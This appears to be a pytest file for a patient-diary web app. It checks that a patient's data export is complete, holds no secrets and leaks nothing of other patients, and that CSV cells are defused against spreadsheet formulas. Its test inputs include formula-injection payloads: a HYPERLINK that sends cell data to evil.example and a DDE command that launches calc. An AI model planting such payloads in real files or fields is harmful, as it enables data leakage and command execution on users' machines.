"""The patient's own export holds everything kept about them, nothing of anyone else's, no secrets; and
no text cell of any CSV the app writes opens as a formula in a spreadsheet."""

import csv
import io
import json
import uuid
from datetime import time, timedelta

import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from diary.api.patient_export import diary_as_csv, diary_as_dict, diary_columns, diary_time_fields
from diary.exports.tabular import ADDED_COLUMNS, cell, spreadsheet_text, table
from diary.kinds import KINDS, SEGMENTS
from diary.models import (
    AccessLogEntry,
    BulkExport,
    CareLink,
    CheckIn,
    ClaudicationAnswer,
    ClinicInvite,
    ClinicMembership,
    CrampEpisode,
    Delivery,
    Factor,
    FactorEntry,
    InsightAcknowledgement,
    LoginSession,
    PatientSummary,
    PushSubscription,
    Reminder,
    Role,
    ShareCode,
    UrgentAlert,
    User,
)
from diary.services.alerts import alert_review, insight_acknowledge
from diary.services.questionnaires import claudication_record
from diary.services.records import record_create
from diary.services.reminders import reminder_create
from diary.services.sharing import access_log_write, share_code_create, share_code_redeem
from tests.conftest import client_for, make_user
from tests.test_access_matrix import record_body
from tests.test_exports_and_erasure import fill_diary

pytestmark = pytest.mark.django_db

EXPORT = "/api/v1/export/"
CLINICIAN_EXPORT = "/api/v1/clinician/patients/{patient}/export/"
# One read per collection (one per kind of record, ten more), and the profile's takes_diuretics (read
# from the medication list), however many rows each holds.
MAX_QUERIES = len(KINDS) + 11

# Where each kind of row about a patient is in their export: (model, lookup from it to the patient).
EXPORTED = {
    **{(kind.model, "patient"): kind.segment for kind in KINDS},
    (ClaudicationAnswer, "patient"): "claudication",
    (Factor, "patient"): "factors",
    # A factor entry is the patient's twice over: its own patient, and its factor's.
    (FactorEntry, "factor__patient"): "factor-entries",
    (Reminder, "patient"): "reminders",
    (Delivery, "reminder__patient"): "reminder_deliveries",
    (PushSubscription, "patient"): "push_subscriptions",
    (CareLink, "patient"): "sharing_links",
    (ShareCode, "patient"): "sharing_codes",
    (AccessLogEntry, "patient"): "access_log",
    (InsightAcknowledgement, "patient"): "insight_acknowledgements",
    (UrgentAlert, "patient"): "urgent_alerts",
}
# And what is left out on purpose, with the reason. (The user row itself is the `profile`.)
NOT_EXPORTED = {
    (LoginSession, "user"): "its key is a live session credential: written into a file it would sign "
    "in whoever reads the file; the patient's sign-ins are not otherwise about them",
    (PatientSummary, "patient"): "derived: figures recomputed from the records and questionnaire "
    "answers, which are exported",
    (CareLink, "clinician"): "the clinician's side of a patient's link: the row is in that patient's "
    "export; clinicians have no export of their own (403)",
    (ShareCode, "redeemed_by"): "the clinician's side of a patient's code: in that patient's export",
    (AccessLogEntry, "clinician"): "the clinician's side of a patient's access log: in that patient's export",
    (UrgentAlert, "clinician"): "the clinician's side of an alert about a patient: in that patient's export",
    (UrgentAlert, "reviewed_by"): "the reviewer's side of an alert about a patient: in that patient's export",
    (Delivery, "alert__patient"): "an alert's deliveries went to the clinician, by the clinician's own "
    "channels and browsers: they are the clinician's, not the patient's (the alert itself, with whom it "
    "went to, is in urgent_alerts)",
    (Delivery, "alert__clinician"): "a clinician's own deliveries: clinicians have no export of their own",
    (Delivery, "alert__reviewed_by"): "a clinician's own deliveries: clinicians have no export of their own",
    (ClinicMembership, "user"): "a clinician's clinic membership: clinicians have no export of their own",
    (ClinicInvite, "invited_by"): "a clinic admin's invitation of a colleague: no patient's data",
    (CareLink, "assigned_to"): "the member a patient is assigned to: the link is in that patient's export",
    (Delivery, "recipient"): "who a delivery went to: a reminder's is the patient's own (in "
    "reminder_deliveries), an alert's the clinician's",
    (BulkExport, "requested_by"): "a clinic member's export job: clinicians have no export of their own",
    (ClinicInvite, "accepted_by"): "a clinician's own invitation: clinicians have no export of their own",
}

CLASSIC_ANSWERS = {
    "walking_pain": "yes",
    "pain_starts_at_rest": False,
    "pain_uphill_or_hurrying": "yes",
    "pain_ordinary_pace": False,
    "pain_when_standing_still": "gone_within_10_min",
    "locations": ["calf"],
}


def rows_about_users() -> set[tuple[type, str]]:
    """Every diary model with a chain of foreign keys to a user (of up to four keys, so that a cycle
    ends), and the lookup along each chain."""
    user_model = get_user_model()
    found: set[tuple[type, str]] = set()
    for _ in range(4):
        targets: dict[type, list[str]] = {user_model: [""]}
        for model, lookup in found:
            targets.setdefault(model, []).append(lookup)
        grown = {
            (model, f"{field.name}__{lookup}" if lookup else field.name)
            for model in apps.get_app_config("diary").get_models()
            for field in model._meta.get_fields()
            if field.concrete and (field.many_to_one or field.one_to_one) and field.related_model in targets
            for lookup in targets[field.related_model]
        }
        if grown == found:
            break
        found = grown
    return found


def full_account(patient: User, *, copies: int, clinicians: list[User]) -> None:
    """`copies` rows of every kind kept about a patient; the clinicians redeem the patient's codes, read
    the diary, and one code stays unredeemed."""
    fill_diary(patient, copies=copies)
    now = timezone.now()
    for index in range(copies):
        answer = claudication_record(patient=patient, answers=CLASSIC_ANSWERS)
        ClaudicationAnswer.objects.filter(pk=answer.pk).update(answered_at=now - timedelta(days=30 * index))
        reminder = reminder_create(
            patient=patient,
            data={"kind": "stretch", "local_time": time(21, index), "message": f"Stretch {index}"},
        )
        for day in range(2):
            Delivery.objects.create(
                reminder=reminder,
                scheduled_for=now - timedelta(days=day),
                channel="push",
                status="sent",
                sent_at=now - timedelta(days=day),
            )
        PushSubscription.objects.create(
            patient=patient,
            endpoint=f"https://fcm.googleapis.com/fcm/send/{uuid.uuid4()}",
            p256dh=f"BPublicKey{uuid.uuid4().hex}",
            auth=f"Auth{uuid.uuid4().hex[:12]}",
        )
    share_code_create(patient=patient)
    for clinician in clinicians:
        _, code = share_code_create(patient=patient)
        share_code_redeem(clinician=clinician, code=code)
        for _ in range(copies):
            access_log_write(patient=patient, clinician=clinician, action="read cramps")
    for index in range(copies):
        # An urgent check-in alerts every linked clinician; she says she got help; the first reviews.
        data = {"recorded_at": now - timedelta(hours=index + 1), "sudden_chest_pain_or_breathlessness": True}
        record_create(model=CheckIn, patient=patient, data=data)
        insight_acknowledge(
            patient=patient, code="emergency_warning", action="got_help", current_codes=["emergency_warning"]
        )
        if clinicians:
            alert = UrgentAlert.objects.get(
                patient=patient, clinician=clinicians[0], reviewed_at__isnull=True
            )
            alert_review(alert=alert, clinician=clinicians[0], note=f"Phoned her ({index})")


def exported(client, fmt: str):
    response = client.get(EXPORT, {"format": fmt})
    assert response.status_code == 200
    return response


def csv_rows(response) -> list[dict]:
    # getvalue(): the patient's CSV is one body, the clinician's is streamed; it reads either whole.
    return list(csv.DictReader(io.StringIO(response.getvalue().decode())))


def clinicians(count: int, *, group: str = "clinician") -> list[User]:
    return [make_user(f"{group}{index}@example.com", Role.CLINICIAN) for index in range(count)]


# --- Everything kept about the patient ----------------------------------------------------------


def test_every_model_about_a_user_is_in_the_export_or_left_out_for_a_reason():
    found = rows_about_users()
    listed = set(EXPORTED) | set(NOT_EXPORTED)
    assert not set(EXPORTED) & set(NOT_EXPORTED)
    unlisted = sorted(f"{model.__name__}.{lookup}" for model, lookup in found - listed)
    assert not unlisted, f"Add these to the patient's export, or to NOT_EXPORTED with a reason: {unlisted}"
    assert found == listed


def test_the_json_export_holds_every_row_about_the_patient(as_alice, alice, bob):
    full_account(alice, copies=2, clinicians=[bob, *clinicians(2)])
    body = exported(as_alice, "json").json()

    for (model, lookup), key in EXPORTED.items():
        rows = body[key]
        stored = model.objects.filter(**{lookup: alice})
        assert len(rows) == stored.count() > 0, key
        if "id" in rows[0]:
            assert {row["id"] for row in rows} == {str(pk) for pk in stored.values_list("pk", flat=True)}
    assert {row["endpoint"] for row in body["push_subscriptions"]} == set(
        PushSubscription.objects.filter(patient=alice).values_list("endpoint", flat=True)
    )
    assert body["profile"]["email"] == alice.email


def test_the_new_collections_keep_the_apis_own_shapes(as_alice, alice, bob):
    full_account(alice, copies=1, clinicians=[bob])
    body = exported(as_alice, "json").json()

    def first(path: str) -> dict:
        listed = as_alice.get(path).json()
        return (listed["results"] if isinstance(listed, dict) else listed)[0]

    assert body["reminders"][0] == first("/api/v1/reminders/")
    assert body["claudication"][0] == first("/api/v1/claudication/")
    # The export keeps what is stored; the list adds `reason_text`, the stored reason worded for reading.
    listed_delivery = set(first("/api/v1/reminders/deliveries/"))
    assert set(body["reminder_deliveries"][0]) == listed_delivery - {"reason_text"}
    assert body["sharing_links"][0] == first("/api/v1/sharing/links/")
    # Oldest first in the export, newest first in the API: the newest of both.
    assert body["access_log"][-1] == first("/api/v1/access-log/")
    alert = body["urgent_alerts"][0]
    listed_alert = client_for(bob).get("/api/v1/clinician/alerts/").json()["results"][0]
    assert {**alert, "acknowledgement": listed_alert["acknowledgement"]} == {
        **listed_alert,
        "clinician": str(bob.pk),
        "clinician_name": "Bob",
    }
    assert (alert["reviewed_by_name"], alert["note"]) == ("Bob", "Phoned her (0)")
    assert set(body["insight_acknowledgements"][0]) == {
        "id",
        "code",
        "action",
        "acknowledged_at",
        "superseded_at",
    }
    assert set(body["push_subscriptions"][0]) == {"endpoint", "created_at"}
    redeemed = next(code for code in body["sharing_codes"] if code["redeemed_at"])
    assert (redeemed["redeemed_by"], redeemed["redeemed_by_name"]) == (str(bob.pk), "Bob")
    times = {"created_at", "expires_at", "redeemed_at"}
    assert set(redeemed) == {"id", *times, "redeemed_by", "redeemed_by_name"}


def test_the_existing_json_keys_come_first_and_unchanged(as_alice, alice):
    fill_diary(alice, copies=1)
    body = exported(as_alice, "json").json()
    existing = ["exported_at", "profile", *SEGMENTS]
    assert list(body)[: len(existing)] == existing
    cramp = body["cramps"][0]
    assert cramp == as_alice.get(f"/api/v1/cramps/{cramp['id']}/").json()


def test_the_csv_holds_every_row_of_the_json_with_the_old_columns_first(as_alice, as_bob, alice, bob):
    full_account(alice, copies=2, clinicians=[bob])
    body = exported(as_alice, "json").json()
    response = exported(as_alice, "csv")
    rows = csv_rows(response)

    listed = {key: value for key, value in body.items() if isinstance(value, list)}
    assert {kind: sum(row["kind"] == kind for row in rows) for kind in listed} == {
        kind: len(value) for kind, value in listed.items()
    }
    assert len(rows) == sum(len(value) for value in listed.values())
    header = next(csv.reader(io.StringIO(response.content.decode())))
    clinician_header = next(
        csv.reader(io.StringIO(as_bob.get(CLINICIAN_EXPORT.format(patient=alice.pk)).getvalue().decode()))
    )
    old_header = ["kind", "id"]
    for kind in KINDS:
        # A record's own `timezone` is the zone column's, after the old ones (docs/decisions/0037).
        fields = [field for field in kind.serializer().fields if field not in {*ADDED_COLUMNS, "timezone"}]
        old_header += [field for field in fields if field not in old_header]
    # The old columns first and unchanged; after them the zone and local times (test_patient_times), and
    # the record columns added since at the very end.
    assert clinician_header[: len(old_header)] == old_header
    assert clinician_header[len(old_header)] == "timezone"
    assert clinician_header[-len(ADDED_COLUMNS) :] == header[-len(ADDED_COLUMNS) :] == list(ADDED_COLUMNS)
    assert header[: len(old_header)] == old_header
    assert len(header) == len(set(header))
    reminder = next(row for row in rows if row["kind"] == "reminders")
    assert (reminder["reminder_kind"], reminder["message"], reminder["weekdays"]) == (
        "stretch",
        "Stretch 0",
        "[0,1,2,3,4,5,6]",
    )
    redeemed = next(row for row in rows if row["kind"] == "sharing_codes" and row["redeemed_at"])
    assert redeemed["redeemed_by_name"] == "Bob"


def test_the_clinicians_csv_holds_the_records_only_not_the_patients_account(as_bob, alice, bob):
    full_account(alice, copies=2, clinicians=[bob, *clinicians(1)])
    response = as_bob.get(CLINICIAN_EXPORT.format(patient=alice.pk), {"format": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert {row["kind"] for row in csv.DictReader(io.StringIO(text))} == set(SEGMENTS)
    assert "clinician1@example.com" not in text and "fcm.googleapis.com" not in text


def test_the_export_holds_no_secret(as_alice, alice, bob):
    full_account(alice, copies=2, clinicians=[bob])
    alice.totp_secret, alice.totp_enabled = "JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP", True
    alice.save(update_fields=["totp_secret", "totp_enabled"])
    secrets = [
        alice.totp_secret,
        *PushSubscription.objects.filter(patient=alice).values_list("p256dh", flat=True),
        *PushSubscription.objects.filter(patient=alice).values_list("auth", flat=True),
        *ShareCode.objects.filter(patient=alice).values_list("digest", flat=True),
        alice.password,
    ]
    as_json, as_csv = exported(as_alice, "json"), exported(as_alice, "csv")

    assert as_json.json()["profile"]["two_factor_enabled"] is True
    for text in (as_json.content.decode(), as_csv.content.decode()):
        assert not [secret for secret in secrets if secret in text]
        for name in ("totp_secret", "p256dh", '"auth"', "digest", "password", "session_key"):
            assert name not in text


def test_carols_export_holds_nothing_of_alices(as_alice, as_carol, alice, bob, carol):
    full_account(alice, copies=2, clinicians=[bob])
    full_account(carol, copies=1, clinicians=clinicians(1))
    alices = exported(as_alice, "json").json()
    marks = {str(alice.pk), alice.email, str(bob.pk), bob.email, "Bob"}
    for key in EXPORTED.values():
        for row in alices[key]:
            marks |= {row[field] for field in ("id", "endpoint") if field in row}

    for fmt in ("json", "csv"):
        text = exported(as_carol, fmt).content.decode()
        assert not [mark for mark in marks if mark in text]
    carols = exported(as_carol, "json").json()
    assert carols["profile"]["email"] == carol.email
    assert all(carols[key] for key in EXPORTED.values())


@pytest.mark.parametrize("fmt", ["json", "csv"])
@pytest.mark.parametrize("who", ["bob", "dave"])
def test_a_clinician_has_no_patient_export(request, alice, bob, fmt, who):
    client = request.getfixturevalue(f"as_{who}")
    assert client.get(EXPORT, {"format": fmt}).status_code == 403


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_the_export_takes_the_same_few_queries_however_many_rows(
    as_alice, alice, django_assert_max_num_queries, fmt
):
    counts = []
    for copies, group in ((1, "few"), (6, "many")):
        full_account(alice, copies=copies, clinicians=clinicians(copies, group=group))
        with CaptureQueriesContext(connection) as queries, django_assert_max_num_queries(MAX_QUERIES):
            exported(as_alice, fmt)
        counts.append(len(queries))
    assert counts[0] == counts[1]


# --- Formulas in CSV cells ----------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    # Not a formula alone, but telling a harmless "-" from "-1+1" needs a spreadsheet's parser: it is
    # quoted too, and shows as '-.
    "-",
]
# The API trims what it is sent, so these come in as a service would store them (an import, the admin).
BEHIND_WHITESPACE = ["\t=1", "\r=1", "\n=1", " =1", "\u00a0@SUM(A1)", "\tplain text after a tab"]


def cramp_csv_notes(client, path: str, cramp_id: str) -> dict:
    response = client.get(path, {"format": "csv"})
    assert response.status_code == 200
    return next(row for row in csv_rows(response) if row["id"] == cramp_id)


def assert_text_in_both_csvs_and_as_written_elsewhere(as_alice, as_bob, alice, cramp_id: str, notes: str):
    clinician_export = CLINICIAN_EXPORT.format(patient=alice.pk)
    for client, path in ((as_alice, EXPORT), (as_bob, clinician_export)):
        row = cramp_csv_notes(client, path, cramp_id)
        assert row["notes"] == "'" + notes
        assert (row["severity"], row["woke_from_sleep"], row["muscle"]) == ("4", "false", "calf")
    json_cramp = next(row for row in exported(as_alice, "json").json()["cramps"] if row["id"] == cramp_id)
    assert json_cramp["notes"] == notes
    bundle = json.loads(b"".join(as_bob.get(clinician_export, {"format": "fhir"}).streaming_content))
    observation = next(e["resource"] for e in bundle["entry"] if e["resource"]["id"] == cramp_id)
    assert observation["note"] == [{"text": notes}]


@pytest.mark.parametrize("notes", FORMULAS)
def test_a_formula_in_a_note_is_text_in_both_csvs_and_as_written_in_json_and_fhir(
    as_alice, as_bob, alice, bob, notes
):
    response = as_alice.post("/api/v1/cramps/", {**record_body("cramps"), "notes": notes})
    assert response.status_code == 201
    assert response.json()["notes"] == notes
    assert_text_in_both_csvs_and_as_written_elsewhere(as_alice, as_bob, alice, response.json()["id"], notes)


@pytest.mark.parametrize("notes", BEHIND_WHITESPACE)
def test_a_formula_behind_whitespace_and_a_leading_tab_or_return_are_text_too(
    as_alice, as_bob, alice, bob, notes
):
    data = {
        key: timezone.datetime.fromisoformat(value) if key.endswith("_at") else value
        for key, value in record_body("cramps").items()
    }
    cramp, _ = record_create(model=CrampEpisode, patient=alice, data={**data, "notes": notes})
    assert_text_in_both_csvs_and_as_written_elsewhere(as_alice, as_bob, alice, str(cramp.pk), notes)


def test_names_messages_and_every_other_text_cell_are_text_too(as_alice, alice, bob):
    bob.display_name = '=HYPERLINK("https://evil.example/","Dr Bob")'
    bob.save(update_fields=["display_name"])
    assert as_alice.patch("/api/v1/profile/", {"display_name": "@SUM(A1)"}).status_code == 200
    reminder = {"kind": "custom", "local_time": "08:00", "message": "+1+1 glasses of water"}
    assert as_alice.post("/api/v1/reminders/", reminder).status_code == 201
    assert client_for(bob).get(f"/api/v1/clinician/patients/{alice.pk}/cramps/").status_code == 200

    rows = csv_rows(exported(as_alice, "csv"))
    by_kind = {row["kind"]: row for row in rows}
    assert by_kind["reminders"]["message"] == "'+1+1 glasses of water"
    assert by_kind["sharing_links"]["clinician_name"] == "'" + bob.display_name
    assert by_kind["sharing_links"]["patient_name"] == "'@SUM(A1)"
    assert by_kind["access_log"]["clinician_name"] == "'" + bob.display_name
    body = exported(as_alice, "json").json()
    assert body["access_log"][0]["clinician_name"] == bob.display_name
    assert body["profile"]["display_name"] == "@SUM(A1)"


@pytest.mark.parametrize(
    "value",
    [
        "calf",
        "15-20",
        "2026-11-20T08:00:00+01:00",
        "22:00",
        "e-mail me",
        "a=b",
        "2+2 glasses",
        "",
        "https://fcm.googleapis.com/fcm/send/x",
    ],
)
def test_text_that_no_spreadsheet_reads_as_a_formula_is_left_as_it_is(value):
    assert cell(value) == value


def test_numbers_booleans_ids_and_lists_are_not_text_to_neutralise():
    an_id = uuid.uuid4()
    assert cell(-2) == -2
    assert cell(-0.5) == -0.5
    assert cell(an_id) is an_id
    assert (cell(True), cell(False), cell(None)) == ("true", "false", "")
    assert cell([0, 1, 2]) == "[0,1,2]"
    assert cell(["calf", "thigh"]) == '["calf","thigh"]'


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@A1", "\t1", "\r1", "\n=1", "\0=1", "  -1+1", "\u3000=1"]
)
def test_spreadsheet_text_quotes_every_start_a_spreadsheet_may_evaluate(text):
    assert spreadsheet_text(text) == "'" + text


def test_the_csv_is_the_table_of_every_collection_of_the_json(as_alice, alice, bob):
    # The records are written by the clinician's fast path, the rest by table(): together they must be
    # the table of the JSON's own collections, cell for cell.
    full_account(alice, copies=2, clinicians=[bob])
    body = diary_as_dict(alice)
    collections = {key: value for key, value in body.items() if isinstance(value, list)}
    assert diary_as_csv(alice) == table(collections, diary_columns(), alice, diary_time_fields())
